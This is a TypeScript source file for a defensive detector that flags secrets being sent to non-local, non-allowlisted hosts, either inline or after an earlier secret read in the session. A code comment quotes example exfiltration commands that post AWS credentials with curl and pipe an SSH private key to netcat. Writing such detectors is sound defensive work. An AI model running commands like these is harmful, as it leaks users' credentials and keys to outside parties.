// Data leaving the machine after, or together with, a secret: the sequence gateways cannot see.
import type { Detector, Finding } from '../detector.js';
import { isAllowedHost, isLocalHost, type Egress } from '../command/egress.js';
import { secretsAmong } from '../facts.js';

const where = (e: Egress) => `${e.host}${e.port !== undefined ? `:${e.port}` : ''}`;

export const exfiltration: Detector = {
  name: 'exfiltration',
  evaluate({ event, facts, session, ctx }) {
    const remote = facts.egress.filter((e) => !isLocalHost(e.host) && !isAllowedHost(e.host, ctx.egressAllow));
    if (remote.length === 0) return [];
    const findings: Finding[] = [];
    // 1. The command itself carries a secret: `curl -d @~/.aws/credentials …`, `cat id_rsa | nc host`.
    const inline = facts.secrets;
    const piped = facts.pipedToEgress.filter((p) => !isLocalHost(p.egress.host) && !isAllowedHost(p.egress.host, ctx.egressAllow))
      .flatMap((p) => secretsAmong(p.paths, ctx, event.id).map((s) => ({ s, e: p.egress })));
    const carried = inline.length > 0 ? inline.map((s) => ({ s, e: remote[0]! })) : piped;
    for (const { s, e } of carried) {
      findings.push({
        rule: 'secret-exfiltration', severity: 'critical', tactic: 'exfiltration', technique: 'T1048',
        title: `Secret sent to ${e.host}`,
        reason: `The command sends ${s.path} (${s.label}) with ${e.tool} to ${where(e)}, a host outside this machine.`,
        evidence: [event.id], key: `${s.path}->${e.host}`, block: true,
      });
    }
    if (findings.length > 0) return findings;
    // 2. Taint: the session read a secret earlier, and now talks to an unknown host.
    if (session.secretReads.length === 0) return [];
    const e = remote[0]!;
    const last = session.secretReads[session.secretReads.length - 1]!;
    const mentionsSecret = session.secretReads.some((r) => event.command?.includes(r.path) || event.command?.includes(r.abs));
    return [{
      rule: 'egress-after-secret-read', severity: mentionsSecret ? 'critical' : 'high', tactic: 'exfiltration', technique: 'T1048',
      title: `Network egress to ${e.host} after reading ${last.label}`,
      reason: `This session read ${session.secretReads.map((r) => r.path).join(', ')} and now runs ${e.tool} to ${where(e)}, which is neither local nor allowlisted: the secret may be leaving.`,
      evidence: [...session.secretReads.map((r) => r.eventId), event.id], key: e.host, block: true,
    }];
  },
};
